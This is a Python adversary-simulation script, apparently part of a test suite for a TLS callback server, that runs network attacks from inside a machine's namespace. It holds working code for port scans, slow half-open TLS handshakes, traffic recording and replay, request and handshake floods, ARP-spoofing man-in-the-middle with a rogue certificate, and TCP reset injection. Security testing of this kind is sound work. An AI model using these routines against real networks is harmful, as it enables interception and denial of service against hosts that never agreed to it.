"""What somebody on the machines' network does to the callback server and to its callers.

`attacker.py COMMAND FILE` runs in a machine's network namespace, does what the JSON in the file
says, and prints what came of it as JSON. It finds nothing good or bad: the tests beside it do. Needs root for raw packets, and nothing
but Python.
"""

import base64
import json
import os
import select
import socket
import ssl
import struct
import sys
import threading
import time

PATIENCE = 20
LINES = b"\r\n\r\n"


def dial(host, port, timeout=PATIENCE):
    stream = socket.create_connection((host, port), timeout)
    stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return stream


def rest(stream):
    """Everything until the other side ends it, and how it did."""
    taken = b""
    while True:
        try:
            piece = stream.recv(65536)
        except (ssl.SSLError, OSError) as error:
            return taken, type(error).__name__
        if not piece:
            return taken, "end"
        taken += piece


def scan(host, ports, count):
    """Connects and goes away. One in a hundred says something and listens."""
    answered = resets = 0
    for number in range(count):
        try:
            with dial(host, ports[number % len(ports)]) as stream:
                if number % 100 == 0:
                    stream.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
                    answered += len(rest(stream)[0])
        except OSError:
            resets += 1
    return {"answered": answered, "resets": resets}


def say(host, port, requests):
    """Each request on a connection of its own, as it stands; what came back."""
    answers = []
    for request in requests:
        try:
            with dial(host, port) as stream:
                stream.sendall(request.encode("latin-1"))
                answers.append(rest(stream)[0].decode("latin-1")[:200])
        except OSError as error:
            answers.append(type(error).__name__)
    return answers


def papers(path):
    """Certificate and key as OpenSSL takes them: it does not know version 2 of PKCS #8, in which the
    public half of an Ed25519 key stands beside the private one."""
    with open(path) as file:
        certificate, key = file.read().split("-----BEGIN PRIVATE KEY-----")
    der = base64.b64decode(key.split("-----")[0])
    at = der.index(bytes.fromhex("04220420"))
    first = bytes.fromhex("302e020100300506032b6570") + der[at : at + 36]
    usable = f"{path}.{os.getpid()}"
    with open(usable, "w") as file:
        begin, end = "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"
        file.write(f"{certificate}{begin}\n{base64.b64encode(first).decode()}\n{end}\n")
    return usable


def context(certificate=None, version=None):
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    if version:
        tls.minimum_version = tls.maximum_version = ssl.TLSVersion[version]
    if certificate:
        tls.load_cert_chain(papers(certificate))
    return tls


def call(host, port, name, certificate=None, version=None):
    """TLS as this caller; the stream, or why there is none."""
    stream = None
    try:
        stream = dial(host, port)
        return context(certificate, version).wrap_socket(stream, server_hostname=name)
    except (ssl.SSLError, OSError) as error:
        if stream:
            stream.close()
        return f"{type(error).__name__} {getattr(error, 'reason', '')}"


def calls(host, port, callers):
    """In TLS 1.3 a client is through before the server has seen its certificate, so each asks for
    something too. What it got, by name."""
    outcomes = {}
    for caller in callers:
        what = caller.pop("what")
        stream = call(host, port, **caller)
        if isinstance(stream, str):
            outcomes[what] = ""
            continue
        with stream:
            try:
                stream.sendall(b"POST /v1/next HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}")
            except (ssl.SSLError, OSError):
                pass
            outcomes[what] = rest(stream)[0].decode("latin-1")
    return outcomes


def first_words(name):
    """What a client says first."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context().wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def slow(host, port, name, count):
    """Begins so many handshakes and leaves them in the middle, until the server has ended all."""
    words = first_words(name)
    half, streams, begun = words[: len(words) // 2], [], time.monotonic()
    for _ in range(count):
        try:
            streams.append(dial(host, port))
            streams[-1].sendall(half)
        except OSError:
            pass
    opened, answered = time.monotonic(), 0
    for stream in streams:
        answered += len(rest(stream)[0])
    return {"opening": opened - begun, "held": time.monotonic() - opened, "answered": answered}


def proxy(listen, host, port, into):
    """Passes on whoever calls, and keeps what each caller says in files INTO.0, INTO.1, …"""
    server = socket.create_server(("", listen), reuse_port=False)
    print(json.dumps("listening"), flush=True)
    number = 0
    while True:
        caller, _ = server.accept()
        threading.Thread(target=pass_on, args=(caller, host, port, f"{into}.{number}"), daemon=True).start()
        number += 1


def pass_on(caller, host, port, into):
    try:
        server = dial(host, port, None)
    except OSError:
        caller.close()
        return
    with open(into, "wb", buffering=0) as record, caller, server:
        other = {caller: server, server: caller}
        while True:
            for stream in select.select([caller, server], [], [])[0]:
                try:
                    piece = stream.recv(65536)
                    other[stream].sendall(piece)
                except OSError:
                    return
                if not piece:
                    return
                if stream is caller:
                    record.write(piece)


def replay(host, port, recorded):
    """Says once more what was recorded: the first record, and when that is answered, the rest."""
    outcomes = []
    for path in recorded:
        with open(path, "rb") as file:
            words = file.read()
        if len(words) < 100:
            continue
        first = 5 + struct.unpack(">H", words[3:5])[0]
        with dial(host, port) as stream:
            stream.sendall(words[:first])
            got = stream.recv(65536)
            try:
                stream.sendall(words[first:])
            except OSError:
                pass
            after, end = rest(stream)
            outcomes.append({"said": len(words), "got": len(got) + len(after), "end": end})
    return outcomes


def speak(stream, request):
    """One request and the status of its answer; `None` where the stream ends instead."""
    try:
        stream.sendall(request)
        head = b""
        while not head.endswith(LINES):
            piece = stream.recv(1)
            if not piece:
                return None
            head += piece
        length = [l.split(b":")[1] for l in head.lower().split(b"\r\n") if l.startswith(b"content-length")]
        left = int(length[0]) if length else 0
        while left > 0:
            piece = stream.recv(left)
            if not piece:
                return None
            left -= len(piece)
        return int(head.split(b" ")[1])
    except (ssl.SSLError, OSError, ValueError):
        return None


def own(host, port, name, certificate, requests):
    """Speaks as a session's engine: its certificate is right. Each request has a stream, which
    replaces the one that is there, and may be replaced by the engine's. What each came to."""
    return [ask_once(host, port, name, certificate, request) for request in requests]


def ask_once(host, port, name, certificate, request):
    words = request["head"].encode("latin-1")
    words += request.get("body", "").encode("latin-1") * request.get("repeat", 1)
    for _ in range(4):
        stream = call(host, port, name, certificate)
        if isinstance(stream, str):
            continue
        with stream:
            status = speak(stream, words)
        if status is not None:
            return status
    return None


def flood(host, port, name, certificate, request, seconds):
    """As many requests as are answered within so many seconds, on as many streams as it takes."""
    answered, streams, until = 0, 0, time.monotonic() + seconds
    while time.monotonic() < until:
        stream = call(host, port, name, certificate)
        streams += 1
        if isinstance(stream, str):
            continue
        with stream:
            while time.monotonic() < until and speak(stream, request.encode("latin-1")) is not None:
                answered += 1
    return {"answered": answered, "streams": streams}


def storm(host, port, name, certificate, seconds):
    """Whole handshakes, one after the other, four at a time."""
    until, done = time.monotonic() + seconds, [0] * 4

    def run(number):
        while time.monotonic() < until:
            try:
                stream = call(host, port, name, certificate)
            except OSError:
                continue
            if not isinstance(stream, str):
                done[number] += 1
                stream.close()

    threads = [threading.Thread(target=run, args=(number,)) for number in range(4)]
    [thread.start() for thread in threads]
    [thread.join() for thread in threads]
    return sum(done)


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def arp(link, victim, claimed, by):
    """Tells one machine that an address is somebody's: an answer that nobody asked for."""
    victim_mac, victim_ip = mac(victim["mac"]), socket.inet_aton(victim["ip"])
    frame = victim_mac + link.getsockname()[4] + b"\x08\x06"
    frame += struct.pack(">HHBBH", 1, 0x0800, 6, 4, 2) + by + socket.inet_aton(claimed) + victim_mac + victim_ip
    link.send(frame)


def middle(interface, victim, claimed, true_mac, port, certificate, ca, times):
    """Takes an address over for one machine and answers there with a certificate of its own, until
    so many calls have come. What each caller said and did. An engine's certificate, which CA has
    signed, is good enough for it."""
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind((interface, 0))
    over, met, named = threading.Event(), [], []

    def poison():
        while not over.wait(0.05):
            arp(link, victim, claimed, link.getsockname()[4])

    server = socket.create_server((claimed, port))
    server.settimeout(PATIENCE * 2)
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    shown = papers(certificate)
    tls.load_cert_chain(shown)
    tls.load_verify_locations(ca)
    tls.verify_mode = ssl.CERT_OPTIONAL
    tls.sni_callback = lambda _stream, name, _context: named.append(name)
    thread = threading.Thread(target=poison)
    thread.start()
    try:
        while len(met) < times:
            caller, _ = server.accept()
            caller.settimeout(PATIENCE)
            caught = {"trusted": False, "certificate": False, "said": 0}
            try:
                with tls.wrap_socket(caller, server_side=True) as stream:
                    caught["trusted"] = True
                    caught["certificate"] = stream.getpeercert(True) is not None
                    caught["said"] = len(rest(stream)[0])
            except (ssl.SSLError, OSError) as error:
                caught["error"] = str(getattr(error, "reason", error))
            met.append(caught)
    finally:
        over.set()
        thread.join()
        # A kernel takes nothing new about a neighbour within a second of the last news.
        for _ in range(30):
            arp(link, victim, claimed, mac(true_mac))
            time.sleep(0.05)
    return {"met": met, "named": named}


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def reset(source, target, sport, dport, number):
    """A TCP segment that ends a connection, as IPv4 packet."""
    tcp = struct.pack(">HHIIBBHHH", sport, dport, number, 0, 5 << 4, 4, 0, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack(">BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0)
    return head + socket.inet_aton(source) + socket.inet_aton(target) + tcp


def resets(interface, victim, port, times):
    """Reads along and ends so many connections of a machine, each with numbers that fit."""
    ears = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    ears.bind((interface, 0x0800))
    ears.settimeout(PATIENCE * 2)
    voice = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    done, seen = [], {}
    while len(done) < times:
        packet = ears.recv(65536)
        ihl = (packet[0] & 15) * 4
        source, target = socket.inet_ntoa(packet[12:16]), socket.inet_ntoa(packet[16:20])
        if packet[9] != 6 or source != victim:
            continue
        sport, dport, seq, ack, off = struct.unpack(">HHIIB", packet[ihl : ihl + 13])
        size = struct.unpack(">H", packet[2:4])[0] - ihl - (off >> 4) * 4
        if dport != port or size == 0 or sport in done:
            continue
        # One that has stood for a while: the engine is in the middle of its report.
        if time.monotonic() - seen.setdefault(sport, time.monotonic()) < 1:
            continue
        done.append(sport)
        voice.sendto(reset(source, target, sport, dport, (seq + size) & 0xFFFFFFFF), (target, 0))
        voice.sendto(reset(target, source, dport, sport, ack), (source, 0))
    return len(done)


COMMANDS = [scan, say, calls, slow, proxy, replay, own, flood, storm, middle, resets]

if __name__ == "__main__":
    command = {command.__name__: command for command in COMMANDS}[sys.argv[1]]
    with open(sys.argv[2]) as order:
        how = json.load(order)
    print(json.dumps(command(**how)))
